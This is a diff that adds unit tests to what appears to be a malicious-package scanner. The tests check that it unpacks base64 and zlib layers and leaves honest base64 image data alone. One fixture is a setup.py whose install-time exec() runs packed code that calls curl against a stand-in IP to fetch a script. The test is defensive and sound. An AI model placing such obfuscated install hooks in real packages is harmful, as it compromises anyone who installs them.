@@ -206,3 +206,31 @@ describe('hostile content', () => {
     expect(analysis.notes.join('\n')).toMatch(/not valid UTF-8/);
   });
 });
+
+describe('encoded payloads', () => {
+  it('unpacks base64 and zlib layers and locates what the hidden code does at the literal', async () => {
+    const { deflateSync } = await import('node:zlib');
+    const hidden = 'import subprocess\nsubprocess.Popen(["curl", "-s", "http://198.51.100.4/p.sh"])\n';
+    const packed = Buffer.from(deflateSync(Buffer.from(hidden))).toString('base64');
+    const analysis = extractFeatures(
+      viewOf({
+        'pkg-1/setup.py': `import zlib, base64\nexec(zlib.decompress(base64.b64decode("${packed}")))\nfrom setuptools import setup\nsetup(name="pkg")\n`,
+      }),
+    );
+    expect(analysis.features['payload.decoded_python']).toBe(1);
+    expect(analysis.features['code.process.install']).toBeGreaterThan(0);
+    const hidden_hit = analysis.evidence.find((e) => e.message?.includes('base64+zlib-decoded'));
+    expect(hidden_hit?.path).toBe('pkg-1/setup.py');
+    expect(hidden_hit?.line).toBe(2);
+  });
+  it('leaves honest base64 data alone (an embedded PNG decodes to binary, not code)', () => {
+    const png = Buffer.concat([
+      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+      Buffer.alloc(120, 7),
+    ]);
+    const f = extractFeatures(
+      viewOf({ 'pkg-1/pkg/icons.py': `ICON = "${png.toString('base64')}"\n` }),
+    ).features;
+    expect(f['payload.decoded_python']).toBe(0);
+  });
+});
